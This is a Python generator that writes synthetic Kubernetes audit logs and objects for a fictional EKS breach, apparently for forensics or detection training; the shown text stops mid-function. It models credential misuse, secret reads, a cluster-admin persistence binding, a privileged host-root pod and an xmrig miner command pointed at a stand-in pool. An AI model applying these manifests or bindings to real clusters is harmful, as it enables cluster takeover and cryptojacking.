#!/usr/bin/env python3
"""Regenerate the bundled example evidence in examples/incident-2026-03-14/.

One made-up incident on the EKS cluster prod-payments (account 111122223333, us-east-1) on
2026-03-14, written out in the file forms that AWS, Kubernetes, Falco and an EDR produce. The
story, the file forms and the ground truth are described in examples/README.md; the ground truth
is also written, machine-readable, to examples/incident-2026-03-14.truth.json (kept outside the
evidence folder so that it is never read as evidence).

Deterministic: the same script always writes the same bytes (fixed seed, fixed gzip mtime,
no wall-clock time). Standard library only.

    python3 examples/make-examples.py            # writes next to this script
    python3 examples/make-examples.py --out DIR  # writes DIR/incident-2026-03-14/ and DIR/*.truth.json
"""

import argparse
import base64
import calendar
import copy
import gzip
import hashlib
import io
import json
import os
import random
import sys
import urllib.parse
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20260314
rng = random.Random(SEED)

# ---------------------------------------------------------------------------------------------
# The world: account, cluster, nodes, principals. All public IPs are documentation addresses
# (RFC 5737): attacker infrastructure 203.0.113.0/24, the company's egress 198.51.100.0/24,
# GitHub runners and staff 192.0.2.0/24. VPC addresses are RFC 1918.
# ---------------------------------------------------------------------------------------------
ACCOUNT = "111122223333"
ATTACKER_ACCOUNT = "444455556666"
REGION = "us-east-1"
CLUSTER = "prod-payments"
CLUSTER_ARN = f"arn:aws:eks:{REGION}:{ACCOUNT}:cluster/{CLUSTER}"
CLUSTER_CREATED = "2025-06-02T10:14:37.412Z"
K8S_VERSION = "1.32"
SERVER_GIT = "v1.32.2-eks-bc803b4"
KUBELET_VERSION = "v1.32.1-eks-5d632ec"
VPC_ID = "vpc-0f3c2a1b9d8e7f601"
SUBNETS = {"us-east-1a": "subnet-0a41c7e2b9d35f106", "us-east-1b": "subnet-0b52d8f3cae46a217",
           "us-east-1c": "subnet-0c63e9a4dbf57b328"}
CLUSTER_SG = "sg-0a7b9c1d2e3f40516"
CLUSTER_SG_NAME = "eks-cluster-sg-prod-payments-1718223344"
ENDPOINT = "https://7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B.gr7.us-east-1.eks.amazonaws.com"
NODEGROUP = "prod-payments-general"
NODE_AMI = "ami-0c9a1b2d3e4f56789"
AUDIT_STREAMS = ["kube-apiserver-audit-3f1c8e0d9a7b46c2b5e4d1a0c9f8e7d6",
                 "kube-apiserver-audit-8b2d4f6a1c3e5b7d9f0a2c4e6b8d0f1a"]

ATTACKER_IP = "203.0.113.45"
POOL_IP = "203.0.113.77"
POOL_PORT = 3333
NAT_IP = "198.51.100.10"          # the VPC's NAT gateway (nodes' egress)
JENKINS_IP = "198.51.100.20"      # the old CI server that legitimately uses ci-deployer
GHA_IP = "192.0.2.140"            # a GitHub-hosted runner
SRE_IP = "192.0.2.55"             # an SRE's laptop

# IAM principals. IDs are 21 characters (AIDA/AROA + 17), access keys 20 (AKIA/ASIA + 16).
CI_USER = "ci-deployer"
CI_USER_ARN = f"arn:aws:iam::{ACCOUNT}:user/{CI_USER}"
CI_USER_ID = "AIDARQ4WZT7KX2M5NPL3V"
CI_KEY = "AKIARQ4WZT7KHB3D6FXQ"        # the stolen key
CI_KEY_NEW = "AKIARQ4WZT7KM8JY2CVE"    # the key the attacker creates for persistence
NODE_ROLE = "prod-payments-node-role"
NODE_ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/{NODE_ROLE}"
NODE_ROLE_ID = "AROARQ4WZT7KFJ6YT2XBN"
GHA_ROLE = "github-actions-deploy"
GHA_ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/{GHA_ROLE}"
GHA_ROLE_ID = "AROARQ4WZT7KC5VQ8MWZH"
GHA_SESSION = "GitHubActions"
EVIL_ROLE = "eks-backup-operator"
EVIL_ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/{EVIL_ROLE}"
EVIL_ROLE_ID = "AROARQ4WZT7KP3LD9GRTY"
EVIL_SESSION = "backup"
ATTACKER_USER_ID = "AIDAXB3Q7ZT5MKV2P9RWE"   # the caller in the attacker's own account
SRE_ROLE = "AWSReservedSSO_PlatformReadOnly_5f0e3c2b1a9d8e7f"
SRE_ROLE_ID = "AROARQ4WZT7KS1RE8ONLY"
SRE_SESSION = "maria.lopez@example.com"
EKS_SLR_ID = "AROARQ4WZT7KEKSSLR4QZ"

for _k in (CI_KEY, CI_KEY_NEW):
    assert len(_k) == 20, _k
for _k in (CI_USER_ID, NODE_ROLE_ID, GHA_ROLE_ID, EVIL_ROLE_ID, ATTACKER_USER_ID, SRE_ROLE_ID,
           EKS_SLR_ID):
    assert len(_k) == 21, _k


class Node:
    def __init__(self, name, ip, instance, zone, pod_cidr_prefix, asia, launched):
        self.name, self.ip, self.instance, self.zone = name, ip, instance, zone
        self.pod_prefix, self.asia, self.launched = pod_cidr_prefix, asia, launched
        self.uid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        self.username = f"system:node:{name}"


NODES = [
    Node("ip-10-42-11-27.ec2.internal", "10.42.11.27", "i-0abc1234def567890", "us-east-1a",
         "10.42.11.", "ASIARQ4WZT7KNV2H7QEL", "2026-03-02T04:11:26Z"),
    Node("ip-10-42-45-163.ec2.internal", "10.42.45.163", "i-0abc5678ef9012345", "us-east-1b",
         "10.42.45.", "ASIARQ4WZT7KQW8D3JTA", "2026-03-02T04:11:31Z"),
    Node("ip-10-42-78-9.ec2.internal", "10.42.78.9", "i-0abc9012fa3456789", "us-east-1c",
         "10.42.78.", "ASIARQ4WZT7KZC5R1UBM", "2026-03-02T04:11:29Z"),
]
for _n in NODES:
    assert len(_n.instance) == 19 and len(_n.asia) == 20
EVIL_NODE = NODES[0]

# The malicious pod.
EVIL_POD = "backup-agent"
EVIL_NS = "kube-system"
EVIL_IMAGE_REPO = f"{ATTACKER_IP}:5000/tools/backup"
EVIL_IMAGE = f"{EVIL_IMAGE_REPO}:latest"
EVIL_POD_UID = "6f1d2c3b-4a59-4e87-9b6a-c0d1e2f3a4b5"
EVIL_POD_IP = "10.42.11.140"
EVIL_CONTAINER_ID = hashlib.sha256(b"backup-agent/backup").hexdigest()
EVIL_IMAGE_DIGEST = "sha256:" + hashlib.sha256(b"203.0.113.45:5000/tools/backup").hexdigest()
MINER_SHA256 = hashlib.sha256(b"xmrig-6.21.0-static").hexdigest()
MINER_PID = 31822
MINER_PATH = "/tmp/.x/xmrig"
# A made-up Monero-style wallet string (base58, 95 characters); not a real address.
_wallet_rng = random.Random("wallet")
MINER_WALLET = "4" + "".join(_wallet_rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
                             for _ in range(94))
MINER_ARGS = (f"-o stratum+tcp://{POOL_IP}:{POOL_PORT} -u {MINER_WALLET} -p x -k "
              "--donate-level 1 --cpu-max-threads-hint 75")
MINER_CMDLINE = "xmrig " + MINER_ARGS            # Falco's proc.cmdline: name + arguments
SHELL_PID = 31650
BACKUP_SA = "backup-sa"
BACKUP_CRB = "backup-sa-admin"

DETECTOR_ID = "6ac1f2e3d4b5a69788c9d0e1f2a3b4c5"

KUBECTL_ATTACKER = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
KUBECTL_JENKINS = "kubectl/v1.27.4 (linux/amd64) kubernetes/fa3d799"
KUBECTL_GHA = "kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0"
KUBELET_UA = f"kubelet/{KUBELET_VERSION} (linux/amd64) kubernetes/5d632ec"
KCM_UA = f"kube-controller-manager/{SERVER_GIT} (linux/amd64) kubernetes/bc803b4/leader-election"
SCHED_UA = f"kube-scheduler/{SERVER_GIT} (linux/amd64) kubernetes/bc803b4/scheduler"

CP_IPS = ["172.16.51.17", "172.16.88.203"]   # EKS control-plane ENIs (apiserver-internal callers)


# ---------------------------------------------------------------------------------------------
# Small helpers
# ---------------------------------------------------------------------------------------------
def T(hms, day="2026-03-14"):
    """'08:43:05.123456' -> aware datetime (UTC)."""
    if "." in hms:
        base, frac = hms.split(".")
        frac = (frac + "000000")[:6]
    else:
        base, frac = hms, "000000"
    return datetime.strptime(f"{day}T{base}.{frac}", "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=timezone.utc)


def iso_us(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def iso_s(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def iso_ms(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def iso_ns(dt, extra_ns=0):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond:06d}{extra_ns:03d}Z"


def epoch(dt):
    return calendar.timegm(dt.utctimetuple()) + dt.microsecond / 1e6


def epoch_ms(dt):
    return calendar.timegm(dt.utctimetuple()) * 1000 + dt.microsecond // 1000


def epoch_ns(dt, extra_ns=0):
    return (calendar.timegm(dt.utctimetuple()) * 1_000_000 + dt.microsecond) * 1000 + extra_ns


def iam_date(dt):
    """IAM's CloudTrail date style: 'Mar 14, 2026, 9:00:30 AM'."""
    h = dt.hour % 12 or 12
    return f"{dt.strftime('%b')} {dt.day}, {dt.year}, {h}:{dt.strftime('%M:%S')} {'AM' if dt.hour < 12 else 'PM'}"


def uid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def stable_uuid(text):
    """A v4-shaped UUID derived from a name, for objects that must have the same uid in every file."""
    return str(uuid.UUID(hashlib.md5(text.encode()).hexdigest(), version=4))


def akid(prefix):
    return prefix + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))


def suffix5():
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))


def ms(dt, lo=1, hi=40):
    return dt + timedelta(microseconds=rng.randint(lo * 1000, hi * 1000))


def dumps_compact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def dumps_cli(obj):
    """AWS CLI / kubectl style: 4-space indent."""
    return json.dumps(obj, indent=4, ensure_ascii=False) + "\n"


# ---------------------------------------------------------------------------------------------
# Kubernetes identities as the API server sees them on EKS (aws-iam-authenticator extras)
# ---------------------------------------------------------------------------------------------
def k8s_user_iam(username, groups, arn, canonical, session, key, principal):
    return {
        "username": username,
        "uid": f"aws-iam-authenticator:{ACCOUNT}:{principal.split(':')[0]}",
        "groups": groups + ["system:authenticated"],
        "extra": {
            "accessKeyId": [key],
            "arn": [arn],
            "canonicalArn": [canonical],
            "principalId": [principal],
            "sessionName": [session],
            "sigs.k8s.io/aws-iam-authenticator/principalId": [principal],
        },
    }


U_CI = k8s_user_iam(CI_USER, ["ci:deployers"], CI_USER_ARN, CI_USER_ARN, "", CI_KEY, CI_USER_ID)
GHA_STS_ARN = f"arn:aws:sts::{ACCOUNT}:assumed-role/{GHA_ROLE}/{GHA_SESSION}"


def u_gha(key):
    return k8s_user_iam(GHA_STS_ARN, ["payments:deployers"], GHA_STS_ARN, GHA_ROLE_ARN, GHA_SESSION,
                        key, f"{GHA_ROLE_ID}:{GHA_SESSION}")


def u_node(n):
    return k8s_user_iam(n.username, ["system:bootstrappers", "system:nodes"],
                        f"arn:aws:sts::{ACCOUNT}:assumed-role/{NODE_ROLE}/{n.instance}", NODE_ROLE_ARN,
                        n.instance, n.asia, f"{NODE_ROLE_ID}:{n.instance}")


def u_plain(username, groups=None):
    u = {"username": username}
    if groups is not None:
        u["groups"] = groups
    return u


def u_sa(ns, name, pod=None, pod_uid=None, node=None):
    u = {"username": f"system:serviceaccount:{ns}:{name}",
         "uid": stable_uuid(f'{ns}/{name}'),
         "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}
    if pod:
        u["extra"] = {
            "authentication.kubernetes.io/credential-id": [f"JTI={uid()}"],
            "authentication.kubernetes.io/node-name": [node.name],
            "authentication.kubernetes.io/node-uid": [node.uid],
            "authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/pod-uid": [pod_uid],
        }
    return u


U_KCM = u_plain("system:kube-controller-manager", ["system:authenticated"])
U_SCHED = u_plain("system:kube-scheduler", ["system:authenticated"])
U_METRICS = u_plain("eks:k8s-metrics", ["system:authenticated"])
U_CERTCTL = u_plain("eks:certificate-controller", ["system:authenticated"])
U_CCM = u_plain("eks:cloud-controller-manager", ["system:authenticated"])


def crb_reason(binding, role, kind, name):
    return f'RBAC: allowed by ClusterRoleBinding "{binding}" of ClusterRole "{role}" to {kind} "{name}"'


def rb_reason(binding, ns, role, kind, name):
    return f'RBAC: allowed by RoleBinding "{binding}/{ns}" of ClusterRole "{role}" to {kind} "{name}"'


REASON_CI = crb_reason("ci-deployers-admin", "cluster-admin", "Group", "ci:deployers")
REASON_GHA = rb_reason("payments-deployers", "payments", "edit", "Group", "payments:deployers")
REASON_DISCOVERY = crb_reason("system:discovery", "system:discovery", "Group", "system:authenticated")
REASON_BASIC = crb_reason("system:basic-user", "system:basic-user", "Group", "system:authenticated")


# ---------------------------------------------------------------------------------------------
# Kubernetes objects (pods, nodes, RBAC) shared by the audit log and the snapshot
# ---------------------------------------------------------------------------------------------
def api_access_volume(name):
    return {"name": name, "projected": {"sources": [
        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1",
                                                                      "fieldPath": "metadata.namespace"}}]}},
    ], "defaultMode": 420}}


DEFAULT_TOLERATIONS = [
    {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
    {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
]


def make_pod(name, ns, pod_uid, created, containers, labels=None, owner=None, sa="default",
             node=None, ip=None, phase="Running", started=None, host_pid=False, host_network=False,
             volumes=None, tolerations=None, annotations=None, priority_class=None, api_vol=None,
             generate_name=None, resource_version=None, with_status=True, managed_by=None):
    api_vol = api_vol or f"kube-api-access-{suffix5()}"
    md = {"name": name}
    if generate_name:
        md["generateName"] = generate_name
    md["namespace"] = ns
    md["uid"] = pod_uid
    md["resourceVersion"] = resource_version or str(rng.randint(180_000_000, 189_999_999))
    md["creationTimestamp"] = iso_s(created)
    if labels:
        md["labels"] = labels
    if annotations:
        md["annotations"] = annotations
    if owner:
        md["ownerReferences"] = [owner]
    if managed_by:
        md["managedFields"] = managed_by
    ctrs = []
    for c in containers:
        cc = {"name": c["name"], "image": c["image"]}
        for k in ("command", "args", "ports", "env"):
            if k in c:
                cc[k] = c[k]
        cc["resources"] = c.get("resources", {})
        mounts = list(c.get("volumeMounts", []))
        if sa is not None:
            mounts.append({"name": api_vol, "readOnly": True,
                           "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})
        cc["volumeMounts"] = mounts
        cc["terminationMessagePath"] = "/dev/termination-log"
        cc["terminationMessagePolicy"] = "File"
        cc["imagePullPolicy"] = "Always" if c["image"].endswith(":latest") else "IfNotPresent"
        if "securityContext" in c:
            cc["securityContext"] = c["securityContext"]
        ctrs.append(cc)
    vols = list(volumes or [])
    if sa is not None:
        vols.append(api_access_volume(api_vol))
    spec = {"volumes": vols, "containers": ctrs, "restartPolicy": "Always",
            "terminationGracePeriodSeconds": 30, "dnsPolicy": "ClusterFirst",
            "serviceAccountName": sa or "default", "serviceAccount": sa or "default"}
    if node:
        spec["nodeName"] = node.name
    if host_network:
        spec["hostNetwork"] = True
    if host_pid:
        spec["hostPID"] = True
    spec["securityContext"] = {}
    spec["schedulerName"] = "default-scheduler"
    spec["tolerations"] = tolerations if tolerations is not None else DEFAULT_TOLERATIONS
    if priority_class:
        spec["priorityClassName"] = priority_class
        spec["priority"] = 2000001000 if priority_class == "system-node-critical" else 2000000000
    else:
        spec["priority"] = 0
    spec["enableServiceLinks"] = True
    spec["preemptionPolicy"] = "PreemptLowerPriority"
    pod = {"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": spec}
    if not with_status:
        return pod
    if phase == "Pending":
        pod["status"] = {"phase": "Pending", "qosClass": qos(containers)}
        return pod
    started = started or created + timedelta(seconds=2)
    ready_at = started + timedelta(seconds=rng.randint(2, 9))
    cond = lambda t, at: {"type": t, "status": "True", "lastProbeTime": None, "lastTransitionTime": iso_s(at)}
    ip = node.ip if host_network else ip
    pod["status"] = {
        "phase": "Running",
        "conditions": [cond("PodReadyToStartContainers", ready_at), cond("Initialized", started),
                       cond("Ready", ready_at), cond("ContainersReady", ready_at),
                       cond("PodScheduled", created)],
        "hostIP": node.ip, "hostIPs": [{"ip": node.ip}],
        "podIP": ip, "podIPs": [{"ip": ip}],
        "startTime": iso_s(started),
        "containerStatuses": [{
            "name": c["name"],
            "state": {"running": {"startedAt": iso_s(ready_at - timedelta(seconds=1))}},
            "lastState": {}, "ready": True, "restartCount": 0,
            "image": c["image"],
            "imageID": c.get("imageID") or c["image"].split(":")[0] + "@sha256:" + hashlib.sha256(c["image"].encode()).hexdigest(),
            "containerID": "containerd://" + (c.get("containerID") or hashlib.sha256(f"{ns}/{name}/{c['name']}".encode()).hexdigest()),
            "started": True,
            "volumeMounts": [{"name": m["name"], "mountPath": m["mountPath"], **({"readOnly": True} if m.get("readOnly") else {})}
                             for m in ctrs[i]["volumeMounts"]],
        } for i, c in enumerate(containers)],
        "qosClass": qos(containers),
    }
    return pod


def qos(containers):
    res = [c.get("resources", {}) for c in containers]
    if all(not r for r in res):
        return "BestEffort"
    if all(r.get("limits") and r.get("limits") == r.get("requests") for r in res):
        return "Guaranteed"
    return "Burstable"


EVIL_APIVOL = "kube-api-access-q7x2m"
EVIL_CREATED = T("08:49:10.482117")
EVIL_STARTED = T("08:49:14")
EVIL_CONTAINERS = [{
    "name": "backup", "image": EVIL_IMAGE, "command": ["/bin/sh", "-c", "sleep infinity"],
    "securityContext": {"privileged": True},
    "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
    "imageID": f"{EVIL_IMAGE_REPO}@{EVIL_IMAGE_DIGEST}", "containerID": EVIL_CONTAINER_ID,
}]
EVIL_VOLUMES = [{"name": "host-root", "hostPath": {"path": "/", "type": ""}}]
EVIL_TOLERATIONS = [{"operator": "Exists"}]
EVIL_MANIFEST = {  # what the attacker applied (kubectl apply -f backup-agent.yaml)
    "apiVersion": "v1", "kind": "Pod",
    "metadata": {"labels": {"app": "backup-agent"}, "name": EVIL_POD, "namespace": EVIL_NS},
    "spec": {"containers": [{"command": ["/bin/sh", "-c", "sleep infinity"], "image": EVIL_IMAGE,
                             "name": "backup", "securityContext": {"privileged": True},
                             "volumeMounts": [{"mountPath": "/host", "name": "host-root"}]}],
             "hostPID": True, "tolerations": [{"operator": "Exists"}],
             "volumes": [{"hostPath": {"path": "/"}, "name": "host-root"}]},
}
EVIL_LAST_APPLIED = json.dumps(EVIL_MANIFEST, separators=(",", ":"), sort_keys=True) + "\n"


def evil_pod(phase):
    return make_pod(
        EVIL_POD, EVIL_NS, EVIL_POD_UID, EVIL_CREATED, EVIL_CONTAINERS, labels={"app": "backup-agent"},
        annotations={"kubectl.kubernetes.io/last-applied-configuration": EVIL_LAST_APPLIED},
        node=EVIL_NODE if phase == "Running" else None, ip=EVIL_POD_IP, phase=phase, started=EVIL_STARTED,
        host_pid=True, volumes=EVIL_VOLUMES, tolerations=EVIL_TOLERATIONS, api_vol=EVIL_APIVOL,
        resource_version="184467213" if phase == "Pending" else "184469955")


# payments-api: the application that the CI deploys. Two rollouts on the day (06:11 and 07:48).
ECR = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com"
PAY_IMAGES = {"old": f"{ECR}/payments-api:2026.03.13-2", "0611": f"{ECR}/payments-api:2026.03.14-1",
              "0748": f"{ECR}/payments-api:2026.03.14-2", "1318": f"{ECR}/payments-api:2026.03.14-3"}
PAY_RS = {"0611": "payments-api-6d8f9c7b54", "0748": "payments-api-7b9c4d6f85"}
PAY_DEPLOY_UID = "0b6f7e2d-3c41-4a58-9e67-8f90a1b2c3d4"
PAY_RESOURCES = {"limits": {"cpu": "1", "memory": "1Gi"}, "requests": {"cpu": "250m", "memory": "512Mi"}}


def pay_container(image):
    return {"name": "payments-api", "image": image,
            "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
            "env": [{"name": "DB_HOST", "value": "payments-db.cluster-c9xk2m4p7q1z.us-east-1.rds.amazonaws.com"},
                    {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "payments-db-credentials", "key": "password"}}}],
            "resources": PAY_RESOURCES}


def pay_pod(rs, image, name, pod_uid, created, node, ip, phase="Running", with_status=True):
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "uid": stable_uuid(rs),
             "controller": True, "blockOwnerDeletion": True}
    return make_pod(name, "payments", pod_uid, created, [pay_container(image)],
                    labels={"app.kubernetes.io/name": "payments-api", "pod-template-hash": rs.rsplit("-", 1)[1]},
                    owner=owner, sa="payments-api", node=node, ip=ip, phase=phase,
                    generate_name=rs + "-", with_status=with_status)


# ---------------------------------------------------------------------------------------------
# Kubernetes audit log (audit.k8s.io/v1 Events, EKS audit policy levels)
# ---------------------------------------------------------------------------------------------
AUDIT = []   # (event, label, step) where label is "attack" or "benign"


def status(code, **failure):
    if not failure:
        return {"metadata": {}, "code": code}
    return {"metadata": {}, "status": "Failure", **failure, "code": code}


def audit(t, user, verb, uri, objref=None, code=200, level="Metadata", ua=None, src=None,
          stage="ResponseComplete", req=None, resp=None, reason="", decision="allow",
          annotations=None, latency=(2, 25), label="benign", step=None, audit_id=None,
          received=None, rstatus=None):
    if received is None:   # short request: received at t, finished a few ms later
        received, stage_ts = t, ms(t, *latency)
    else:                  # long-running request (watch, exec): received earlier, finished at t
        stage_ts = t
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level,
          "auditID": audit_id or uid(), "stage": stage, "requestURI": uri, "verb": verb,
          "user": user, "sourceIPs": src or [rng.choice(CP_IPS)], "userAgent": ua or "",
          }
    if objref:
        ev["objectRef"] = objref
    ev["responseStatus"] = rstatus or status(code)
    if req is not None and level in ("Request", "RequestResponse"):
        ev["requestObject"] = req
    if resp is not None and level == "RequestResponse":
        ev["responseObject"] = resp
    ev["requestReceivedTimestamp"] = iso_us(received)
    ev["stageTimestamp"] = iso_us(stage_ts)
    ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
    if annotations:
        ann.update(annotations)
    ev["annotations"] = ann
    AUDIT.append((ev, label, step))
    return ev


def oref(resource, ns=None, name=None, group=None, version="v1", sub=None, uid_=None, rv=None):
    o = {"resource": resource}
    if ns:
        o["namespace"] = ns
    if name:
        o["name"] = name
    if uid_:
        o["uid"] = uid_
    if group:
        o["apiGroup"] = group
    o["apiVersion"] = version
    if rv:
        o["resourceVersion"] = rv
    if sub:
        o["subresource"] = sub
    return o


POD_CREATE_ANN = {
    "mutation.webhook.admission.k8s.io/round_0_index_0":
        '{"configuration":"pod-identity-webhook","webhook":"iam-for-pods.amazonaws.com","mutated":false}',
    "pod-security.kubernetes.io/enforce-policy": "privileged:latest",
}


def attack_audit():
    A = dict(user=U_CI, src=[ATTACKER_IP], ua=KUBECTL_ATTACKER, label="attack")
    # kubectl discovery, then "what can I do?"
    audit(T("08:43:05.118204"), uri="/api?timeout=32s", verb="get", reason=REASON_DISCOVERY, step="k8s-discovery", **A)
    audit(T("08:43:05.164871"), uri="/apis?timeout=32s", verb="get", reason=REASON_DISCOVERY, step="k8s-discovery", **A)
    rules_req = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
                 "metadata": {"creationTimestamp": None}, "spec": {"namespace": "default"},
                 "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
    rules_resp = copy.deepcopy(rules_req)
    rules_resp["status"] = {
        "resourceRules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]},
                          {"verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
                           "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"]}],
        "nonResourceRules": [{"verbs": ["*"], "nonResourceURLs": ["*"]},
                             {"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis", "/apis/*", "/healthz", "/livez", "/openapi", "/openapi/*", "/readyz", "/version", "/version/"]}],
        "incomplete": False}
    audit(T("08:43:21.402533"), uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", verb="create",
          objref=oref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201,
          level="RequestResponse", req=rules_req, resp=rules_resp, reason=REASON_BASIC, step="k8s-permission-check", **A)
    audit(T("08:43:40.771093"), uri="/api/v1/namespaces?limit=500", verb="list", objref=oref("namespaces"),
          level="Request", reason=REASON_CI, step="k8s-enumerate", **A)
    # secrets: list everything, then read two
    audit(T("08:44:02.309418"), uri="/api/v1/secrets?limit=500", verb="list", objref=oref("secrets"),
          reason=REASON_CI, step="k8s-list-secrets", **A)
    audit(T("08:44:29.881640"), uri="/api/v1/namespaces/payments/secrets/payments-db-credentials", verb="get",
          objref=oref("secrets", "payments", "payments-db-credentials"), reason=REASON_CI, step="k8s-read-secret", **A)
    audit(T("08:44:37.015276"), uri="/api/v1/namespaces/payments/secrets/stripe-api-key", verb="get",
          objref=oref("secrets", "payments", "stripe-api-key"), reason=REASON_CI, step="k8s-read-secret", **A)
    audit(T("08:45:15.550012"), uri="/api/v1/pods?limit=500", verb="list", objref=oref("pods"), level="Request",
          reason=REASON_CI, step="k8s-enumerate", **A)
    audit(T("08:45:40.127744"), uri="/api/v1/namespaces/kube-system/configmaps/aws-auth", verb="get",
          objref=oref("configmaps", "kube-system", "aws-auth"), reason=REASON_CI, step="k8s-read-aws-auth", **A)
    audit(T("08:46:02.664190"), uri="/api/v1/nodes?limit=500", verb="list", objref=oref("nodes"), level="Request",
          reason=REASON_CI, step="k8s-enumerate", **A)
    # persistence: a service account with cluster-admin and a year-long token
    sa_uid = "2c9e8b7a-6d5f-4e3c-8b1a-0f9e8d7c6b5a"
    sa_req = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": BACKUP_SA, "namespace": "default", "creationTimestamp": None}}
    sa_resp = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {
        "name": BACKUP_SA, "namespace": "default", "uid": sa_uid, "resourceVersion": "184466102",
        "creationTimestamp": "2026-03-14T08:47:02Z",
        "managedFields": [{"manager": "kubectl-create", "operation": "Update", "apiVersion": "v1", "time": "2026-03-14T08:47:02Z"}]}}
    audit(T("08:47:02.218377"), uri="/api/v1/namespaces/default/serviceaccounts?fieldManager=kubectl-create&fieldValidation=Strict",
          verb="create", objref=oref("serviceaccounts", "default", BACKUP_SA), code=201, level="RequestResponse",
          req=sa_req, resp=sa_resp, reason=REASON_CI, step="k8s-create-serviceaccount", **A)
    crb_uid = "9d8c7b6a-5e4f-4a3b-9c2d-1e0f9a8b7c6d"
    crb_req = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
               "metadata": {"name": BACKUP_CRB, "creationTimestamp": None},
               "subjects": [{"kind": "ServiceAccount", "name": BACKUP_SA, "namespace": "default"}],
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}
    crb_resp = copy.deepcopy(crb_req)
    crb_resp["metadata"] = {"name": BACKUP_CRB, "uid": crb_uid, "resourceVersion": "184466187",
                            "creationTimestamp": "2026-03-14T08:47:20Z",
                            "managedFields": [{"manager": "kubectl-create", "operation": "Update",
                                               "apiVersion": "rbac.authorization.k8s.io/v1", "time": "2026-03-14T08:47:20Z",
                                               "fieldsType": "FieldsV1", "fieldsV1": {"f:roleRef": {}, "f:subjects": {}}}]}
    audit(T("08:47:20.514930"), uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
          verb="create", objref=oref("clusterrolebindings", name=BACKUP_CRB, group="rbac.authorization.k8s.io"),
          code=201, level="RequestResponse", req=crb_req, resp=crb_resp, reason=REASON_CI,
          step="k8s-create-clusterrolebinding", **A)
    tok_req = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": None, "expirationSeconds": 31536000, "boundObjectRef": None},
               "status": {"token": "", "expirationTimestamp": None}}
    audit(T("08:47:41.090665"), uri=f"/api/v1/namespaces/default/serviceaccounts/{BACKUP_SA}/token",
          verb="create", objref=oref("serviceaccounts", "default", BACKUP_SA, sub="token"), code=201,
          level="Request", req=tok_req, reason=REASON_CI, step="k8s-create-token",
          annotations={"authentication.kubernetes.io/issued-credential-id": "JTI=5b0e6c1d-8f2a-4c7e-9a3b-2d4f6e8a0c1b"}, **A)
    # the privileged pod: kubectl apply does a GET (404) and then a create
    audit(T("08:49:10.301562"), uri=f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}", verb="get",
          objref=oref("pods", EVIL_NS, EVIL_POD), level="Request", reason=REASON_CI,
          rstatus=status(404, message=f'pods "{EVIL_POD}" not found', reason="NotFound", details={"name": EVIL_POD, "kind": "pods"}),
          step="k8s-create-privileged-pod", **A)
    req = copy.deepcopy(EVIL_MANIFEST)
    req["metadata"] = {"name": EVIL_POD, "namespace": EVIL_NS, "creationTimestamp": None,
                       "labels": {"app": "backup-agent"},
                       "annotations": {"kubectl.kubernetes.io/last-applied-configuration": EVIL_LAST_APPLIED}}
    req["spec"] = {"volumes": [{"name": "host-root", "hostPath": {"path": "/"}}],
                   "containers": [{"name": "backup", "image": EVIL_IMAGE, "command": ["/bin/sh", "-c", "sleep infinity"],
                                   "resources": {}, "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
